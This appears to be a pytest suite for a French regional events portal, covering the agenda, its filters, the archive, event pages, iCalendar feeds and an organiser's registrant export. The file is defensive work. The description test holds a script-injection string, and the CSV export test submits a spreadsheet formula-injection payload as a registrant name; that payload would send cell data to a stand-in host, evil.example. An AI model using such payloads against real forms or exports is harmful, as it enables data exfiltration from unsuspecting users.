"""Everyone finds the events: the agenda and its filters, the archive, event pages, calendars, and the organiser's list."""

import csv
import io
from datetime import UTC, time

import icalendar
import pytest

from portal.events.dates import utc_to_paris
from tests.conftest import page
from tests.helpers import make_event, visitor_link


def titles(html: str, *candidates: str) -> list[str]:
    """The candidates found in the page, in the order they appear."""
    found = [(html.index(title), title) for title in candidates if title in html]
    return [title for _, title in sorted(found)]


def test_the_agenda_lists_upcoming_events_soonest_first(client):
    make_event(title="Dans dix jours", days=10)
    make_event(title="Dans deux jours", days=2)
    make_event(title="Brouillon caché", status="draft")
    make_event(title="Déjà passé", days=-3)
    html = page(client.get("/evenements/"))
    assert titles(html, "Dans dix jours", "Dans deux jours", "Brouillon caché", "Déjà passé") == [
        "Dans deux jours",
        "Dans dix jours",
    ]
    assert "2 événements à venir" in html


def test_past_events_are_in_the_archive_latest_first(client):
    make_event(title="Il y a trois jours", days=-3)
    make_event(title="Il y a dix jours", days=-10)
    make_event(title="À venir", days=3)
    html = page(client.get("/evenements/passes"))
    assert titles(html, "Il y a trois jours", "Il y a dix jours", "À venir") == [
        "Il y a trois jours",
        "Il y a dix jours",
    ]


def test_a_card_says_when_in_french_and_how_many_places_are_left(client):
    make_event(title="Journée", days=5, start=time(14), end=time(17, 30), capacity=12)
    make_event(title="Sans inscription", days=6, registration_required=False)
    html = page(client.get("/evenements/"))
    assert (
        "14 h – 17 h 30" in html and "12 places restantes sur 12" in html and "Sans inscription, entrée libre" in html
    )


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("type=cafe", ["Café à Flers"]),
        ("zone=alencon", ["Réunion à Alençon"]),
        ("metier=aide-soignant", ["Café à Flers"]),
        ("type=cafe&type=information", ["Café à Flers", "Réunion à Alençon"]),
    ],
)
def test_the_agenda_filters_by_kind_zone_and_metier(client, query, expected):
    make_event(title="Café à Flers", kind="cafe", insee="61169", metiers=["aide-soignant"], days=2)
    make_event(title="Réunion à Alençon", kind="information", insee="61001", metiers=["infirmier"], days=3)
    html = page(client.get(f"/evenements/?{query}"))
    assert titles(html, "Café à Flers", "Réunion à Alençon") == expected


def test_an_empty_agenda_gives_a_hint(client):
    assert "Pas d'événement annoncé pour l'instant" in page(client.get("/evenements/"))
    assert "Aucun événement ne correspond à ces filtres" in page(client.get("/evenements/?type=cafe"))


def test_an_unknown_filter_value_is_ignored_with_a_message(client):
    make_event(title="Café", kind="cafe")
    response = client.get("/evenements/?type=inconnu")
    assert response.status_code == 422 and "Café" in page(response)


def test_the_agenda_pages_by_twenty(client):
    for n in range(21):
        make_event(title=f"Événement numéro {n:02d}", days=2 + n)
    first = page(client.get("/evenements/"))
    assert "Événement numéro 19" in first and "Événement numéro 20" not in first and "Page 1 sur 2" in first
    assert "Événement numéro 20" in page(client.get("/evenements/?page=2"))
    assert client.get("/evenements/?page=9").status_code == 302


def test_an_event_page_redirects_to_its_canonical_address(client):
    event = make_event(title="Portes ouvertes de l'EHPAD")
    for wrong in (f"/evenements/{event.id}", f"/evenements/{event.id}-ancien-titre"):
        response = client.get(wrong)
        assert response.status_code == 301 and response.headers["Location"].endswith(
            f"/evenements/{event.id}-portes-ouvertes-de-l-ehpad"
        )


def test_the_description_keeps_its_lines_and_no_html(client):
    event = make_event(description="Première ligne\nDeuxième ligne\n\n<script>alert(1)</script>")
    html = client.get(f"/evenements/{event.id}-{event.slug}").get_data(as_text=True)
    assert "Première ligne<br>Deuxième ligne" in html and "<script>alert" not in html
    assert "&lt;script&gt;" in html


def test_the_ics_file_parses_with_the_right_times(client):
    event = make_event(title="Vis ma vie", days=4, start=time(9, 30), end=time(12))
    response = client.get(f"/evenements/{event.id}.ics")
    assert response.mimetype == "text/calendar"
    calendar = icalendar.Calendar.from_ical(response.data)
    [vevent] = calendar.walk("VEVENT")
    start = vevent.decoded("dtstart")
    assert start.tzinfo is not None and start.astimezone(UTC).replace(tzinfo=None) == event.starts_at
    assert utc_to_paris(event.starts_at).strftime("%H:%M") == "09:30"
    assert vevent.decoded("dtend").astimezone(UTC).replace(tzinfo=None) == event.ends_at
    assert str(vevent["uid"]) == f"event-{event.id}@metiers-autonomie-orne.fr"
    assert str(vevent["summary"]) == "Vis ma vie" and "Flers" in str(vevent["location"])
    assert str(vevent["url"]).endswith(f"/evenements/{event.id}-{event.slug}")


def test_the_calendar_feed_has_every_upcoming_event_and_marks_cancelled_ones(client):
    make_event(title="À venir", days=3)
    make_event(title="Annulé", days=4, status="cancelled")
    make_event(title="Brouillon", days=5, status="draft")
    response = client.get("/evenements/agenda.ics")
    assert response.mimetype == "text/calendar"
    events = {str(e["summary"]): str(e["status"]) for e in icalendar.Calendar.from_ical(response.data).walk("VEVENT")}
    assert events == {"À venir": "CONFIRMED", "ANNULÉ – Annulé": "CANCELLED"}


def test_the_registrants_export_neutralises_formulas(app, make, client, auth):
    member = make.member()
    event = make_event(structure=member.structure, capacity=10)
    visitor = app.test_client()
    visitor.post(
        f"/evenements/{event.id}/inscription-sans-compte",
        data={"name": '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "email": "x@exemple.fr"},
    )
    visitor.post(visitor_link("x@exemple.fr"))
    auth.login(member)
    html = page(client.get(f"/compte/evenements/{event.id}"))
    assert "1 inscrit" in html and "x@exemple.fr" in html
    response = client.get(f"/compte/evenements/{event.id}/inscrits.csv")
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0][0] == "Nom" and rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    assert rows[1][2] == "Inscrit·e"


def test_the_home_page_shows_the_next_three_events(client):
    for n in range(4):
        make_event(title=f"Rencontre {n}", days=2 + n)
    html = page(client.get("/"))
    assert "Rencontre 0" in html and "Rencontre 2" in html and "Rencontre 3" not in html
    assert "le calendrier arrive bientôt" not in html


def test_the_home_page_without_events_says_so(client):
    assert "Pas d'événement annoncé pour l'instant" in page(client.get("/"))


def test_a_metier_page_shows_its_next_events(client):
    make_event(title="Vis ma vie d'aide-soignant", metiers=["aide-soignant"])
    make_event(title="Café des éducateurs", metiers=["educateur-specialise"])
    html = page(client.get("/metiers/aide-soignant"))
    assert "Vis ma vie d'aide-soignant" in html and "Café des éducateurs" not in html


def test_the_agenda_is_in_the_menu_and_the_sitemap(client):
    event = make_event()
    assert 'href="/evenements/"' in page(client.get("/"))
    sitemap = page(client.get("/sitemap.xml"))
    assert "/evenements/</loc>" in sitemap and f"/evenements/{event.id}-{event.slug}</loc>" in sitemap


def test_an_organiser_sees_the_management_link_on_the_event_page(client, make, auth):
    member = make.member()
    event = make_event(structure=member.structure)
    auth.login(member)
    assert "Gérer cet événement" in page(client.get(f"/evenements/{event.id}-{event.slug}"))
    auth.logout()
    auth.login(make.member())
    assert "Gérer cet événement" not in page(client.get(f"/evenements/{event.id}-{event.slug}"))
